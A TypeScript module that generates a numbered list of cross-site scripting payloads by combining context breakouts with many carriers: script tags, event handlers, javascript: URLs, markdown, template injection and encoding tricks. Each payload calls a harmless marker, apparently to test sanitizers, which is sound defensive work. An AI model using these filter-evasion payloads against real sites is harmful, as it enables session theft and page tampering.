/** Texts that run a script wherever they become part of a page, each under a number of its own: `ran("p7")`. */
export interface ScriptPayload {
  readonly id: string;
  readonly text: string;
}

const EVENTS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["iframe", "onload"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["marquee", "onstart"],
  ["object data=x", "onerror"],
  ["style", "onload"],
  ["a style=display:block autofocus tabindex=1", "onfocus"],
] as const;

const CARRIERS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  ...EVENTS.map(
    ([tag, event]) =>
      (call: string) =>
        `<${tag} ${event}=${call.replaceAll('"', "'")}>`,
  ),
  (call) => `<a href="javascript:${call.replaceAll('"', "'")}">x</a>`,
  (call) => `<iframe src="javascript:parent.${call.replaceAll('"', "'")}">`,
  (call) => `<form action="javascript:${call.replaceAll('"', "'")}"><button>x`,
  (call) => `<iframe srcdoc="<script>parent.${call.replaceAll('"', "'")}</script>">`,
  (call) => `<math><mi xlink:href="javascript:${call.replaceAll('"', "'")}">x`,
  (call) => `javascript:${call}`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x" onerror="${call.replaceAll('"', "'")})`,
  (call) => `{{constructor.constructor('${call.replaceAll('"', "`")}')()}}`,
  (call) => `\${${call}}#{${call}}<%= ${call} %>`,
  (call) => `\u003cscript\u003e${call}\u003c/script\u003e\u2028\u2029`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `\u202e<img src=x onerror=${call.replaceAll('"', "'")}>\u2066\u200b\ufeff`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;&#x3C;img src=x onerror=${call.replaceAll('"', "'")}&#x3E;`,
];

/** Ways out of where a text stands: an attribute, an element, a style, a comment, a script, a template. */
const BREAKOUTS = ["", "\"'>", "</title></style>", "-->", "</script>", "`}", "]]>"];

/** More than 200 payloads, short enough for a name. */
export const SCRIPT_PAYLOADS: readonly ScriptPayload[] = BREAKOUTS.flatMap((out) =>
  CARRIERS.map((carry) => (call: string) => `${out}${carry(call)}`),
)
  .map((write, index) => ({ id: `p${index}`, text: write(`ran("p${index}")`) }))
  .filter(({ text }) => text.length <= 100);
